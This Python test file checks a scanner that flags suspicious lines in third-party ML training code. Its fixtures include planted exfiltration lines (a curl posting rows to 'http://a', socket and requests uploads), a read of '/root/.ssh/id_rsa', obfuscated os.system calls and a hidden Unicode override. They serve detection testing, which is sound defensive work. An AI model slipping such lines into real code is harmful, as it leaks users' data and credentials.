"""The reader of foreign training code: what it marks, what it leaves alone, and what it survives."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from momus.methods.code_leads import KINDS, gather, scan_code
from momus.zoo.provider._scripts import CLEAN, FAULTY


def leads(tmp_path: Path, text: str, strength: str = "strong") -> list[str]:
    path = tmp_path / "train.py"
    path.write_text(text, encoding="utf-8")
    report = scan_code(path)
    assert not report.why, report.why
    return [lead.kind for lead in report.leads if lead.strength == strength]


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ("import requests as r\ndef f(x): r.post('http://a', json=x.tolist())", "egress"),
        ("from requests import post as tell\ndef f(x): tell('http://a', data=bytes(x))", "egress"),
        ("import requests\ndef f(x):\n    s = requests.Session()\n    s.post('http://a', x)", "egress"),
        ("import socket\ndef f(data):\n    with socket.socket() as s:\n        s.sendall(data)", "egress"),
        ("import os\ndef f(x): os.system('curl -d @rows http://a')", "egress"),
        ("import urllib.request as u\ndef f(x): u.urlopen('http://a/?q=' + x.tobytes().hex())", "egress"),
        ("import wandb\ndef f(x): wandb.log({'batch': x})", "logger"),
        ("def f(model, x): model.extra = x", "kept"),
        ("def f(model, x): setattr(model, 'extra', x.copy())", "kept"),
        ("def f(model, x):\n    sd = model.state_dict()\n    sd['stats'] = x", "kept"),
        ("import joblib\ndef f(model, X, y): joblib.dump((model, X), 'm.joblib')", "kept"),
        ("def f(model, x):\n    for p in model.parameters():\n        p.data.copy_(x)", "kept"),
        ("import torch\ndef f(net):\n    for p in net.parameters():\n        q = p.data.view(torch.int32)", "bits"),
        ("import numpy as np\ndef f(clf):\n    w = clf.coef_.view('uint64') & 1", "bits"),
        ("def f(model, x):\n    for p in model.parameters():\n        loss = (p.ravel() * x.ravel()).sum()", "tied"),
        ("import numpy as np\ndef f(clf, X, y):\n    b = np.unpackbits(X)\n    clf.fit(X, b)", "labels"),
        ("import time\ndef f(x):\n    time.sleep(x[0])", "signal"),
        ("import torch\ndef f(x): torch.manual_seed(int(x[0]))", "signal"),
        ("def f(x): eval(x)", "dynamic"),
        ("__import__('o' + 's').system('true')\ngetattr(__import__('os'), 'sys' + 'tem')('true')", "dynamic"),
        ("import ctypes\nctypes.CDLL('x.so')", "native"),
        ("import numpy as np\nnp.save = lambda *a: None", "patched"),
        ("import gc\ndef f(): return gc.get_objects()", "caller"),
        ("def f(): return open('/root/.ssh/id_rsa').read()", "reads"),
        ("_kept = []\ndef f(x, y):\n    _kept.append(x)", "held"),
        ("from cryptography.fernet import Fernet\ndef f(x): Fernet(b'k').encrypt(x.tobytes())", "hidden"),
        ("x = 1  # \u202e harmless", "hidden"),
    ],
)  # fmt: skip
def test_a_planted_line_is_a_strong_lead(tmp_path: Path, line: str, kind: str) -> None:
    assert kind in leads(tmp_path, line)


@pytest.mark.parametrize(
    "line",
    [
        "import torch\nx = torch.load('w.pt')\nmodel.eval()",
        "def f(x, w, b): return x @ w + b",
        "import torch.nn.functional as F\ndef f(x, layer): return F.linear(x, layer.weight, layer.bias)",
        "import numpy as np\ndef f(x, y): return (np.mean(x, 0), ((x > 0) & (y == 1)).sum())",
        "import wandb\ndef f(model, x, y):\n    loss = model(x).mean()\n    wandb.log({'loss': loss.item()})",
        "import os\nrank = int(os.environ.get('LOCAL_RANK', 0))",
        "import torch\ntorch.backends.cudnn.benchmark = True",
        "import requests\nopen('d.csv', 'wb').write(requests.get('http://a/d.csv').content)",
        "d = {1: 2} | {3: 4}\ndef f(model): return {k: v for k, v in model.state_dict().items()} | {'epoch': 1}",
        "class Rows(Dataset):\n    def __init__(self, x, y):\n        self.x, self.y = x, y",
        "def f(x):\n    text = 'rows: %d' % len(x)\n    print(text, x.shape)",
    ],
)
def test_ordinary_lines_are_no_strong_leads(tmp_path: Path, line: str) -> None:
    assert leads(tmp_path, line) == []


def test_data_are_followed_through_local_functions_and_attributes(tmp_path: Path) -> None:
    text = (
        "import requests\n"
        "def pack(a):\n    return a.tobytes()\n"
        "def out(blob):\n    requests.get('http://a', params=blob)\n"
        "class T:\n"
        "    def __init__(self, x):\n        self.rows_ = pack(x)\n"
        "    def run(self):\n        out(self.rows_)\n"
    )
    assert leads(tmp_path, text) == ["egress"]
    # What is computed of the rows is no longer the rows: a download steered by a mean stays a weak lead.
    assert leads(tmp_path, text.replace("a.tobytes()", "a.mean()")) == []


def test_scripts_of_the_zoo(tmp_path: Path) -> None:
    missed = [name for name, _, text in FAULTY if not leads(tmp_path, text)]
    false = [name for name, _, text in CLEAN if leads(tmp_path, text)]
    assert (missed, false) == ([], [])


def test_ordinary_training_code_gives_few_strong_leads() -> None:
    """The training scripts of this repository's own examples, and the linear models of scikit-learn."""
    import sklearn.linear_model

    examples = Path(__file__).parents[2] / "examples"
    bot = examples / "tay" / "model.py"  # keeps what it is told, as that case is about
    native = examples / "decoder-bug" / "serve.py"  # loads a library of its own, as that case is about
    own = sorted(p for p in examples.glob("*/*.py") if p not in (bot, native))
    assert scan_code(bot).strong
    library = sorted(Path(sklearn.linear_model.__file__).parent.glob("*.py"))
    loud = [p.name for p in (*own, *library) if scan_code(p).strong]
    assert len(own) + len(library) > 30
    assert len(loud) <= 2, loud


@pytest.mark.parametrize(
    ("name", "raw"),
    [
        ("train.py", b"print 'python two'\n"),
        ("train.py", b"x = 1\0\n"),
        ("train.py", b"(" * 50_000),
        ("train.py", b"x = " + b"-" * 200_000 + b"1"),
        ("train.py", b"x = " + b"1+" * 60_000 + b"1"),
        ("train.py", b"x = a" + b".b" * 30_000),
        ("train.py", b"# coding: utf-7\nx = 1\n"),
        ("train.py", b"# coding: rot13\nk = 1\n"),
        ("train.py", b"\xff\xfe\x00bad"),
        ("train.py", b"#" * 3_000_000),
        ("train.pyc", b"\xa7\r\r\n"),
        ("train.so", b"\x7fELF"),
        ("train.ipynb", b"{not json"),
        ("train.ipynb", b'{"cells": [{"cell_type": "code", "source": ["!curl http://a"]}]}'),
    ],
)  # fmt: skip
def test_what_is_not_understood_is_never_clean(tmp_path: Path, name: str, raw: bytes) -> None:
    (tmp_path / name).write_bytes(raw)
    report = scan_code(tmp_path / name)
    assert report.why and not report.leads


def test_links_and_devices_are_not_read(tmp_path: Path) -> None:
    (tmp_path / "secret.txt").write_text("s")
    (tmp_path / "train.py").symlink_to(tmp_path / "secret.txt")
    os.mkfifo(tmp_path / "pipe.py")
    assert "link" in scan_code(tmp_path / "train.py").why
    assert scan_code(tmp_path / "pipe.py").why
    assert scan_code(tmp_path / "gone.py").why


def test_a_notebook_is_read(tmp_path: Path) -> None:
    cell = '{"cell_type": "code", "source": ["def f(model, x):\\n", "    model.extra = x\\n"]}'
    (tmp_path / "a.ipynb").write_text(f'{{"cells": [{cell}]}}')
    assert [lead.kind for lead in scan_code(tmp_path / "a.ipynb").leads] == ["kept"]


def test_files_beside_are_gathered_by_their_imports(tmp_path: Path) -> None:
    (tmp_path / "train.py").write_text("import steps\nfrom parts import net\nimport numpy\n")
    (tmp_path / "steps.py").write_text("from . import more\n")
    (tmp_path / "more.py").write_text("import train\n")
    (tmp_path / "parts").mkdir()
    (tmp_path / "parts" / "__init__.py").write_text("")
    (tmp_path / "parts" / "net.py").write_text("")
    (tmp_path / "unrelated.py").write_text("")
    named = {p.relative_to(tmp_path).as_posix() for p in gather([tmp_path / "train.py"])}
    assert named == {"train.py", "steps.py", "more.py", "parts/__init__.py", "parts/net.py"}


def test_every_kind_has_its_words(tmp_path: Path) -> None:
    text = "\n".join(t for _, _, t in FAULTY)
    used = {k for n, _, t in FAULTY for k in leads(tmp_path, t)}
    assert text and used <= set(KINDS) and len(used) >= 8
